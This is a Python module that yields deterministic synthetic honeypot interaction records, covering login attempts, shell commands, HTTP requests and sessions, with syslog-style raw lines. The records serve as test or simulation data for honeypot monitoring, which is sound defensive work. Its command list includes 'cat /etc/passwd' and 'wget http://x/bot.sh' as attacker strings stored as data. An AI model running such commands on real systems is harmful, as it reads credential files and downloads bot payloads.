"""Deterministic synthetic interaction records shaped like a busy honeypot fleet."""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

from domain.observations.records import InteractionRecord

SERVICES = ("ssh", "http", "ftp", "smb", "rdp", "telnet", "mysql", "redis")
USER_AGENTS = ("Mozilla/5.0 (compatible; Nmap Scripting Engine)", "sqlmap/1.7", "curl/8.4.0")
COMMANDS = ("uname -a", "cat /etc/passwd", "wget http://x/bot.sh", "id", "ls -la /tmp")


def records(
    count: int, seed: int = 7, attackers: int = 2000, deckies: int = 20
) -> Iterator[InteractionRecord]:
    """`count` records over a week, in time order."""
    rng = random.Random(seed)
    start = datetime(2026, 11, 1, tzinfo=UTC)
    step = timedelta(days=7) / max(count, 1)
    ips = [f"10.{i // 250}.{i % 250}.{rng.randint(1, 254)}" for i in range(attackers)]
    for i in range(count):
        ip = ips[int(rng.paretovariate(1.2)) % attackers]
        decky = f"decky-{rng.randrange(deckies):02d}"
        service = rng.choice(SERVICES)
        kind = rng.random()
        fields = {"src_ip": ip, "src_port": str(rng.randint(1024, 65535))}
        if kind < 0.3:
            event, msg = "auth", "login attempt"
            fields |= {
                "username": rng.choice(("root", "admin", "pi")),
                "password": f"pw{rng.randrange(500)}",
            }
        elif kind < 0.45:
            event, msg = "command", "shell"
            fields["command"] = rng.choice(COMMANDS)
        elif kind < 0.6:
            event, msg = "request", "GET /"
            fields |= {
                "method": "GET",
                "path": f"/p{rng.randrange(100)}",
                "user_agent": rng.choice(USER_AGENTS),
            }
        else:
            event, msg = rng.choice(("connect", "disconnect")), "session"
        ts = start + step * i
        raw = (
            f'<134>1 {ts.isoformat()} {decky} {service} - {event} [relay@55555 src_ip="{ip}"] {msg}'
        )
        yield InteractionRecord(ts, decky, service, event, ip, msg, fields, raw)
